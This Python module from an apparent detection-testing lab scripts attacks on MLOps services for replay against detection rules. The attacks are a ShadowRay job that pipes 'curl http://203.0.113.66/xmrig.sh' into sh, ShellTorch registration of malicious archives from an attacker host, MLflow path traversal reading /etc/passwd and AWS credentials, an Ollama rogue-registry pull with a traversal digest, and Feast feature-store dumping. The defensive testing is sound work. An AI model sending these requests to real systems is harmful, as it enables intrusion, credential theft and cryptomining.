"""Scenarios against MLOps services: ShadowRay, ShellTorch, the MLflow traversal chain, Ollama's insecure
pull (Probllama) and Feast feature enumeration.

Every request is the traffic library's (inspector.lab.traffic_ray, traffic_torchserve,
traffic_mlflow, traffic_ollama, traffic_feast); a replay sends the same requests with http.client
(urllib's transport) to the target.
"""

from __future__ import annotations

from inspector.lab import network as net
from inspector.lab import traffic_feast as feast
from inspector.lab import traffic_mlflow as mlflow
from inspector.lab import traffic_ollama as ollama
from inspector.lab import traffic_ray as ray
from inspector.lab import traffic_torchserve as torchserve
from inspector.lab.recorder import Lab
from inspector.lab.replay import Replay
from inspector.lab.scenarios.base import Scenario, Step
from inspector.lab.scenarios.calls import Call, play, replay_calls
from inspector.lab.traffic_http import json_response, request_bytes

# -- ShadowRay (CVE-2023-48022) ---------------------------------------------------------------------------

RAY_SUBMIT_OUTSIDE = 3700001
RAY_SHELL_PAYLOAD = 3700002
SUBMISSION = "raysubmit_lab0000shadow"


def shadowray_calls() -> list[Call]:
    entrypoint = "bash -c 'curl -s http://203.0.113.66/xmrig.sh | sh'"
    return [
        Call(request=request_bytes("GET", "/api/version", ray.HOST),
             answer=json_response({"version": "4", "ray_version": "2.9.3", "ray_commit": "62655e1"}),
             event="ray", step="recon", what="GET /api/version (fingerprinting the dashboard)"),
        Call(request=ray.submit_job(entrypoint, submission_id=SUBMISSION), answer=ray.job_submitted(SUBMISSION),
             event="ray", step="submit", what=f"POST /api/jobs/ entrypoint {entrypoint}", pause=1.5),
        Call(request=request_bytes("GET", f"/api/jobs/{SUBMISSION}", ray.HOST),
             answer=json_response({"type": "SUBMISSION", "submission_id": SUBMISSION, "status": "RUNNING",
                                   "entrypoint": entrypoint}),
             event="ray", what="GET /api/jobs/<id> (status)", pause=3.0),
    ]


def _shadowray(lab: Lab, start: float) -> None:
    play(lab, net.ATTACKER, net.RAY_HEAD, net.RAY_DASHBOARD, start, shadowray_calls())


# -- ShellTorch (CVE-2023-43654) --------------------------------------------------------------------------

TS_REMOTE_URL = 3800001
TS_WORKFLOW = 3800002
TS_OUTSIDE_ADMIN = 3800003


def shelltorch_calls() -> list[Call]:
    mar = f"http://{net.ATTACKER}:8888/squeezenet-evil.mar"
    war = f"http://{net.ATTACKER}:8888/pipeline.war"
    return [
        Call(request=request_bytes("GET", "/models", torchserve.HOST, [("User-Agent", "curl/8.5.0")]),
             answer=json_response({"models": [{"modelName": "densenet161", "modelUrl": "densenet161.mar"}]}),
             event="torchserve", step="recon", what="GET /models on the management port"),
        Call(request=torchserve.register_model(mar, initial_workers="1", synchronous="true"),
             answer=torchserve.status_answer('Model "squeezenet-evil" Version: 1.0 registered with 1 initial workers'),
             event="torchserve", step="register-model", what=f"POST /models?url={mar}", pause=1.0),
        Call(request=torchserve.register_workflow(war, workflow_name="pipeline"),
             answer=torchserve.status_answer('Workflow "pipeline" registered'),
             event="torchserve", step="register-workflow", what=f"POST /workflows?url={war} (SnakeYAML gadget)",
             pause=2.0),
    ]


def _shelltorch(lab: Lab, start: float) -> None:
    play(lab, net.ATTACKER, net.TORCHSERVE, net.TORCHSERVE_MANAGEMENT, start, shelltorch_calls())


# -- MLflow traversal chain (CVE-2023-1177, CVE-2024-1594) ---------------------------------------------------

MLFLOW_LOCAL_SOURCE = 3900001
MLFLOW_LOCATION_TRAVERSAL = 3900002
MLFLOW_PATH_TRAVERSAL = 3900003
RUN_ID = "a035a8e1cd6335cdd51bcb57b8ef1309"


def mlflow_calls() -> list[Call]:
    location = "http:///#/../../../../../../etc/"
    return [
        Call(request=mlflow.create_registered_model("lab-exfil"), answer=mlflow.registered_model_answer("lab-exfil"),
             event="mlflow", step="register", what="registered-models/create lab-exfil"),
        Call(request=mlflow.create_model_version("lab-exfil", "//proc/self/root"),
             answer=mlflow.model_version_answer("lab-exfil", "//proc/self/root"),
             event="mlflow", step="local-source", what="model-versions/create source //proc/self/root"),
        Call(request=mlflow.get_model_version_artifact("etc/passwd", "lab-exfil", "1"),
             answer=mlflow.artifact_answer(b"root:x:0:0:root:/root:/bin/bash\n"),
             event="mlflow", step="read", what="model-versions/get-artifact path=etc/passwd (through the source)"),
        Call(request=mlflow.create_experiment("lab-exfil-2", location), answer=mlflow.experiment_answer("7"),
             event="mlflow", step="traversal-location", what=f"experiments/create artifact_location {location}",
             pause=2.0),
        Call(request=mlflow.get_artifact("../../../../root/.aws/credentials", RUN_ID),
             answer=mlflow.artifact_answer(b"[default]\naws_access_key_id = AKIA...\n"),
             event="mlflow", step="traversal-path", what="get-artifact path=../../../../root/.aws/credentials"),
    ]


def _mlflow(lab: Lab, start: float) -> None:
    play(lab, net.ATTACKER, net.MLFLOW, net.MLFLOW_PORT, start, mlflow_calls())


# -- Ollama insecure pull (Probllama, CVE-2024-37032) -------------------------------------------------------

OLLAMA_INVALID_DIGEST = 4000001
OLLAMA_UNAPPROVED_REGISTRY = 4000002
OLLAMA_INSECURE = 4000003
ROGUE_REGISTRY = f"{net.ATTACKER}:{net.REGISTRY_PORT}"
TRAVERSAL_DIGEST = "../../../../../../../etc/ld.so.preload"


def ollama_pull_call() -> Call:
    return Call(request=ollama.pull(f"{ROGUE_REGISTRY}/library/llama3:latest", insecure=True),
                answer=ollama.pull_progress(TRAVERSAL_DIGEST), event="ollama", step="pull",
                what=f"POST /api/pull {ROGUE_REGISTRY}/library/llama3:latest insecure=true")


def _ollama(lab: Lab, start: float) -> None:
    session = lab.http(net.ATTACKER, net.OLLAMA, net.OLLAMA_PORT, start=start)
    call = ollama_pull_call()
    began = session.now
    session.exchange(call.request, call.answer, event=call.event, what=call.what, step=call.step)
    session.close()
    # the server's own hop to the rogue registry, made while the pull is under way
    hop = lab.http(net.OLLAMA, net.ATTACKER, net.REGISTRY_PORT, start=began + 0.002)
    hop.exchange(ollama.registry_manifest_request("library/llama3", "latest", ROGUE_REGISTRY),
                 ollama.registry_manifest([TRAVERSAL_DIGEST], ollama.digest(b"model config")), event="ollama",
                 step="manifest", what="the server fetches the manifest: layer digest ../../etc/ld.so.preload")
    hop.close()


def _ollama_replay(replay: Replay) -> None:
    call = ollama_pull_call()
    replay.attempt(call.what, lambda: replay.send_http(call.request), step=call.step)


# -- Feast feature enumeration -------------------------------------------------------------------------------

FEAST_BULK = 3400002
FEAST_RATE = 3400003
FEATURES = ["driver_hourly_stats:conv_rate", "driver_hourly_stats:acc_rate"]
BULK_PAGES = 3
BULK_KEYS = 1000
WALK_CALLS = 60


def feast_calls() -> list[Call]:
    calls = []
    for page in range(BULK_PAGES):
        keys = list(range(1001 + page * BULK_KEYS, 1001 + (page + 1) * BULK_KEYS))
        calls.append(Call(request=feast.get_online_features("driver_id", keys, FEATURES),
                          answer=feast.online_features_answer("driver_id", keys, FEATURES), event="feast", step="bulk",
                          what=f"get-online-features for driver ids {keys[0]}-{keys[-1]}", pause=1.0))
    base = 1001 + BULK_PAGES * BULK_KEYS
    for n in range(WALK_CALLS):
        keys = list(range(base + 5 * n, base + 5 * n + 5))
        calls.append(Call(request=feast.get_online_features("driver_id", keys, FEATURES),
                          answer=feast.online_features_answer("driver_id", keys, FEATURES), event="feast", step="walk",
                          what=f"get-online-features for driver ids {keys[0]}-{keys[-1]}", pause=0.12))
    return calls


def _feast(lab: Lab, start: float) -> None:
    play(lab, net.COMPROMISED_APP, net.FEAST, net.FEAST_PORT, start, feast_calls())


SCENARIOS = (
    Scenario(
        name="shadowray", title="ShadowRay: a shell job submitted to an exposed Ray dashboard",
        description="From outside, fingerprint the Ray dashboard and submit a job whose entrypoint pipes a "
                    "downloaded miner into sh (the campaign ATLAS calls AML.CS0023).",
        atlas=("AML.T0049", "AML.T0050", "AML.T0034"), cves=("CVE-2023-48022",),
        steps=(Step(id="recon", description="GET /api/version (no rule: fingerprinting looks like monitoring)",
                    policy=True),
               Step(id="submit", description="job submission from outside JOB_SUBMITTER_NETS with a shell payload",
                    sids=(RAY_SUBMIT_OUTSIDE, RAY_SHELL_PAYLOAD))),
        build=_shadowray, replay=lambda r: replay_calls(r, shadowray_calls()), transports=("http",), span=7),
    Scenario(
        name="shelltorch", title="ShellTorch: models and workflows registered from an attacker's server",
        description="From outside, list TorchServe's models on the management port, register a .mar from the "
                    "attacker's host and a workflow archive carrying a SnakeYAML gadget.",
        atlas=("AML.T0049", "AML.T0010.003", "AML.T0011.000"), cves=("CVE-2023-43654", "CVE-2022-1471"),
        steps=(Step(id="recon", description="GET /models (a read: no management rule fires)", policy=True),
               Step(id="register-model", description="model registration from an unapproved URL, outside ADMIN_NETS",
                    sids=(TS_REMOTE_URL, TS_OUTSIDE_ADMIN)),
               Step(id="register-workflow", description="workflow registration from an unapproved URL",
                    sids=(TS_WORKFLOW, TS_OUTSIDE_ADMIN))),
        build=_shelltorch, replay=lambda r: replay_calls(r, shelltorch_calls()), transports=("http",), span=6),
    Scenario(
        name="mlflow-traversal-chain",
        title="MLflow traversal chain: registry source and artifact paths out of the store",
        description="Register a model whose version source is //proc/self/root and read /etc/passwd through it "
                    "(CVE-2023-1177), then create an experiment with an artifact location escaping the store "
                    "(CVE-2024-1594) and read an artifact by a ../ path.",
        atlas=("AML.T0049", "AML.T0035", "AML.T0055"), cves=("CVE-2023-1177", "CVE-2024-1594"),
        steps=(Step(id="register", description="registered-models/create (ordinary on its own)", policy=True),
               Step(id="local-source", description="model-versions/create with a // source",
                    sids=(MLFLOW_LOCAL_SOURCE,)),
               Step(id="read", description="get-artifact path etc/passwd: relative, the escape is in the source "
                    "(no rule correlates the two records: a known gap)"),
               Step(id="traversal-location", description="experiments/create with an http:///#/../ location",
                    sids=(MLFLOW_LOCATION_TRAVERSAL,)),
               Step(id="traversal-path", description="get-artifact with a ../ path", sids=(MLFLOW_PATH_TRAVERSAL,))),
        build=_mlflow, replay=lambda r: replay_calls(r, mlflow_calls()), transports=("http",), span=6),
    Scenario(
        name="ollama-insecure-pull", title="Probllama: an insecure pull from a rogue registry",
        description="From outside, ask Ollama to pull a model from the attacker's registry with insecure: true; "
                    "the registry's manifest names a layer by a path, which vulnerable servers write to.",
        atlas=("AML.T0010.003", "AML.T0049"), cves=("CVE-2024-37032",),
        steps=(Step(id="pull", description="pull from an unapproved registry with insecure: true (the progress "
                    "echoes the bad digest)", sids=(OLLAMA_INSECURE, OLLAMA_UNAPPROVED_REGISTRY, OLLAMA_INVALID_DIGEST),
                    policy=True),
               Step(id="manifest", description="the rogue manifest's layer digest is a path",
                    sids=(OLLAMA_INVALID_DIGEST,), policy=True)),
        build=_ollama, replay=_ollama_replay, transports=("http",), span=2),
    Scenario(
        name="feature-enumeration", title="Feature store enumeration from a compromised application pod",
        description=f"Dump the online store: {BULK_PAGES} lookups of {BULK_KEYS} driver ids each, then "
                    f"{WALK_CALLS} fast lookups walking the key space.",
        atlas=("AML.T0036", "AML.T0035"),
        steps=(Step(id="bulk", description=f"lookups of {BULK_KEYS} entity keys", sids=(FEAST_BULK,), policy=True),
               Step(id="walk", description="lookups faster than FEATURE_LOOKUP_RATE_COUNT (50 per 60 s in the lab)",
                    sids=(FEAST_RATE,))),
        build=_feast, replay=lambda r: replay_calls(r, feast_calls()), transports=("http",), span=12),
)
